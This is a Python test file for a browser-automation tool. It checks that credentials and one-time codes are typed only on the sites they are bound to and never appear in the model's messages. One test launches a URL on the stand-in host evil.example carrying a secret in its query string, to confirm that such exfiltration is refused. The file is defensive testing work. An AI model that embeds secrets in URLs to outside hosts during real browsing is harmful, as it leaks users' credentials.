"""Secrets bound to their sites, and one-time codes: refused for a page of another origin before
anything runs, typed where they belong, hidden from the model; a plain string warns once."""

from __future__ import annotations

import asyncio
import logging
import warnings

import pyotp
import pytest
from support.fakes import FakeBrowser
from support.helpers import ba

import xmltools.base.secrets as secrets_mod
from xmltools import Secret, UsageError
from xmltools.config.settings import Config
from xmltools.interpreter import AsyncInterpreter

SEED = pyotp.random_base32()


def run(messages: list[str], secrets: dict[str, object]) -> tuple[list[object], FakeBrowser]:
    browser = FakeBrowser()

    async def go() -> list[object]:
        async with AsyncInterpreter(Config(), browser=browser, secrets=secrets) as it:  # type: ignore[arg-type]
            return [await it.handle(m) for m in messages]

    return asyncio.run(go()), browser


def typed(browser: FakeBrowser) -> list[str]:
    return [a.text for a in browser.actions if getattr(a, "action", None) == "type"]


def test_a_bound_secret_is_typed_on_its_site_and_refused_elsewhere(caplog: pytest.LogCaptureFixture) -> None:
    pw = Secret("hunter2", origins=["http://127.0.0.1:8001"])
    caplog.set_level(logging.WARNING, logger="xmltools")
    turns, browser = run(
        [
            ba("launch", url="http://127.0.0.1:8001/login"),
            ba("type", text="{secret:PW}"),
            ba("close"),
            ba("launch", url="http://127.0.0.1:8002/login"),  # a look-alike on another port
            ba("type", text="{secret:PW}"),
        ],
        {"PW": pw},
    )
    assert typed(browser) == ["hunter2"]  # the second type never reached the browser
    refused = turns[4].outcomes[0]  # type: ignore[attr-defined]
    assert refused.status == "denied"
    said = str(turns[4].messages)  # type: ignore[attr-defined]
    assert "the secret PW is only for http://127.0.0.1:8001, and this page is http://127.0.0.1:8002" in said
    assert "hunter2" not in said
    assert any("refused browser_action type: the secret PW" in r.getMessage() for r in caplog.records)


def test_a_launch_that_would_carry_a_secret_to_another_origin_is_refused() -> None:
    turns, browser = run(
        [ba("launch", url="https://evil.example/?p={secret:PW}")],
        {"PW": Secret("hunter2", origins=["https://app.example.com"])},
    )
    assert turns[0].outcomes[0].status == "denied" and browser.actions == []  # type: ignore[attr-defined]


def test_a_one_time_code_is_pyotps_code_of_now_and_hidden() -> None:
    turns, browser = run(
        [ba("launch", url="http://127.0.0.1:8001/"), ba("type", text="{secret:OTP}")],
        {"OTP": Secret.totp(SEED, origins=["http://127.0.0.1:8001"])},
    )
    (code,) = typed(browser)
    assert len(code) == 6 and code.isdigit()
    assert pyotp.TOTP(SEED).verify(code, valid_window=1)  # now's code (or the last one, at a 30 s edge)
    assert code not in str(turns[1].messages)  # type: ignore[attr-defined]


def test_a_plain_string_warns_once_that_any_site_may_get_it() -> None:
    secrets_mod._warned = False
    with warnings.catch_warnings(record=True) as seen:
        warnings.simplefilter("always")
        run([ba("launch", url="http://a.test/")], {"PW": "hunter2"})
        run([ba("launch", url="http://a.test/")], {"PW": "hunter2"})
    said = [str(w.message) for w in seen if issubclass(w.category, secrets_mod.UnscopedSecretWarning)]
    assert len(said) == 1 and "PW may be typed into any site" in said[0]


@pytest.mark.parametrize(
    ("make", "said"),
    [
        (lambda: Secret("x", origins="https://a.test"), "origins is a list"),  # type: ignore[arg-type]
        (lambda: Secret("x", origins=["a.test"]), "is not an origin"),
        (lambda: Secret.totp("not base32!"), "that TOTP seed is not valid"),
    ],
)
def test_a_bad_secret_is_the_hosts_error(make: object, said: str) -> None:
    with pytest.raises(UsageError, match=said):
        make()  # type: ignore[operator]


def test_origins_compare_scheme_host_and_port() -> None:
    s = Secret("x", origins=["https://App.Example.com:443", "http://127.0.0.1:8000"])
    assert s.origins == ("https://app.example.com", "http://127.0.0.1:8000")
    assert s.allows("https://app.example.com/login?next=/") and s.allows("http://127.0.0.1:8000/x")
    assert not s.allows("http://app.example.com/") and not s.allows("http://127.0.0.1:8001/")


def test_an_offline_replay_types_nothing_so_no_site_refuses_a_bound_secret(tmp_path: object) -> None:
    """A run recorded on its site with ``{base_url}``: offline, the address is a stand-in and nothing
    is typed, so a secret bound to the real site is not refused there; the writer takes it too."""
    from pathlib import Path

    from xmltools.replaying.run import replay

    folder, site = Path(str(tmp_path)), "http://127.0.0.1:5555"
    bound = {"PW": Secret("hunter2", origins=[site])}

    async def record() -> None:
        async with AsyncInterpreter(Config(), browser=FakeBrowser(), secrets=bound) as it:  # type: ignore[arg-type]
            it.record(folder / "run.jsonl", base_url=site)
            for message in (ba("launch", url=f"{site}/form.html"), ba("type", text="{secret:PW}")):
                assert (await it.handle(message)).outcomes[0].status == "ok"

    asyncio.run(record())
    assert "{base_url}/form.html" in (folder / "run.jsonl").read_text()
    with warnings.catch_warnings():
        warnings.simplefilter("error")  # bound secrets: no warning that any site may get them
        result = asyncio.run(
            replay(folder / "run.jsonl", offline=True, secrets=bound, record=folder / "again.jsonl")
        )
    assert not result.failures and not result.drifts, result.summary()
    assert "hunter2" not in (folder / "again.jsonl").read_text()
